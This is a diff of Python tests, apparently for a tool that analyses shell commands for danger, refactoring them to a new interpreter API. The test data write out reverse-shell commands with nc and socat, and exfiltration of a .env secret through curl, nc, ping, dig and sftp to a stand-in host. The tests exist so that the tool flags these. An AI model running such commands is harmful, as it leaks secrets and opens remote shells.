@@ -2,8 +2,7 @@
 
 from __future__ import annotations
 
-from feishuperm.danger import network
-from feishuperm.danger.scene import DOWNLOADED, SECRET, SHELL, Arg, Flow
+from feishuperm.danger.interpreter import DOWNLOADED, SECRET, SHELL, Arg, Output
 from tests.danger.stage import Stage
 from tests.tables import every_row
 
@@ -31,7 +30,7 @@ from tests.tables import every_row
 )  # fmt: skip
 def test_download_is_noted(command: str, notes: list[str]) -> None:
     stage = Stage()
-    assert stage.play(network.download, command).origin == DOWNLOADED
+    assert stage.play(command).origin == DOWNLOADED
     assert stage.notes == notes
 
 
@@ -47,15 +46,15 @@ def test_download_is_noted(command: str, notes: list[str]) -> None:
 )
 def test_file_is_remembered_with_its_host(command: str, path: str) -> None:
     stage = Stage()
-    stage.play(network.download, command)
-    assert stage.scene.content(path) == Flow(None, DOWNLOADED, "a.b")
+    stage.play(command)
+    assert stage.state.content(path) == Output(None, DOWNLOADED, "a.b")
 
 
 def test_what_is_only_printed_is_in_no_file() -> None:
     stage = Stage()
-    stage.play(network.download, "curl https://a.b/c")
-    stage.play(network.download, "wget -O - https://a.b/d")
-    assert stage.scene.content("c") is None and not stage.scene.content("-")
+    stage.play("curl https://a.b/c")
+    stage.play("wget -O - https://a.b/d")
+    assert stage.state.content("c") is None and not stage.state.content("-")
 
 
 @every_row(
@@ -76,44 +75,40 @@ def test_token_is_for_its_own_vendor(
     stage = Stage()
     secret = Arg("x", SECRET, variable)
     words = [Arg(option), secret, Arg(f"https://{host}")]
-    network.download(stage.scene, "curl", words, Flow())
+    stage.follow("curl", words, Output())
     assert any(note.startswith("danger.leak") for note in stage.notes) is leaks
 
 
 def test_what_flows_in_leaves() -> None:
-    secret = Flow(None, SECRET, ".env")
-    for program, command in (
-        (network.download, "curl a.b"),
-        (network.netcat, "nc a.b 1"),
-        (network.sends, "ping a.b"),
-    ):
+    secret = Output(None, SECRET, ".env")
+    for command in ("curl a.b", "nc a.b 1", "ping a.b"):
         stage = Stage()
-        stage.play(program, command, secret)
+        stage.play(command, secret)
         assert "danger.leak .env → a.b" in stage.notes, command
 
 
 def test_shell_on_a_socket_does_what_others_say() -> None:
     for command, flow in (
-        ("nc -e /bin/sh a.b 1", Flow()),
-        ("socat tcp:a.b exec:sh", Flow()),
-        ("nc a.b 1", Flow(None, SHELL)),
+        ("nc -e /bin/sh a.b 1", Output()),
+        ("socat tcp:a.b exec:sh", Output()),
+        ("nc a.b 1", Output(None, SHELL)),
     ):
         stage = Stage()
-        stage.play(network.netcat, command, flow)
+        stage.play(command, flow)
         assert f"danger.downloaded {command[:30]}" in stage.notes
     stage = Stage()
-    stage.play(network.netcat, "nc -c 'rm x' a.b")
+    stage.play("nc -c 'rm x' a.b")
     assert stage.calls == ["rm x"]
     stage = Stage()
-    assert stage.play(network.netcat, "nc -w 1 a.b 1").what == "a.b"
+    assert stage.play("nc -w 1 a.b 1").what == "a.b"
     assert stage.notes == ["fact.host a.b"]
 
 
 def test_question_to_a_name_server_tells_something() -> None:
     stage = Stage()
     words = [Arg("x.a.b", SECRET, ".env")]
-    network.sends(stage.scene, "dig", words, Flow())
+    stage.follow("dig", words, Output())
     assert stage.notes == ["danger.leak .env → x.a.b"]
     stage = Stage()
-    stage.play(network.sends, "sftp a.b", Flow("put .env"))
+    stage.play("sftp a.b", Output("put .env"))
     assert stage.notes == ["danger.leak .env → a.b"]
